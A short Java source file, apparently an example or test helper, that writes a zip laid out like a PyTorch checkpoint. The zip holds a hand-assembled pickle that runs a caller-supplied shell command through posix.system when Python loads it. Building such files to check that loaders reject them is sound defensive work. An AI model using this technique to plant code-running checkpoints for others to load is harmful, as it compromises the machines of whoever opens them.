package io.peft4j.examples.cli;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** A file as of {@code torch.save} whose pickle would run a command when Python loads it. */
final class PickleWithCode {

    private PickleWithCode() {}

    static void write(Path file, String command) throws IOException {
        // PROTO 2, GLOBAL posix.system, BINUNICODE command, TUPLE1, REDUCE, STOP
        byte[] text = command.getBytes(StandardCharsets.UTF_8);
        byte[] start = "\u0080\u0002cposix\nsystem\nX".getBytes(StandardCharsets.ISO_8859_1);
        byte[] pickle = new byte[start.length + 4 + text.length + 3];
        System.arraycopy(start, 0, pickle, 0, start.length);
        for (int i = 0; i < 4; i++) {
            pickle[start.length + i] = (byte) (text.length >> (8 * i));
        }
        System.arraycopy(text, 0, pickle, start.length + 4, text.length);
        System.arraycopy(new byte[] {(byte) 0x85, 'R', '.'}, 0, pickle, pickle.length - 3, 3);
        try (OutputStream out = Files.newOutputStream(file);
                ZipOutputStream zip = new ZipOutputStream(out)) {
            store(zip, "archive/data.pkl", pickle);
            store(zip, "archive/version", "3\n".getBytes(StandardCharsets.UTF_8));
        }
    }

    private static void store(ZipOutputStream zip, String name, byte[] content) throws IOException {
        ZipEntry entry = new ZipEntry(name);
        CRC32 sum = new CRC32();
        sum.update(content);
        entry.setMethod(ZipEntry.STORED);
        entry.setSize(content.length);
        entry.setCrc(sum.getValue());
        zip.putNextEntry(entry);
        zip.write(content);
        zip.closeEntry();
    }
}
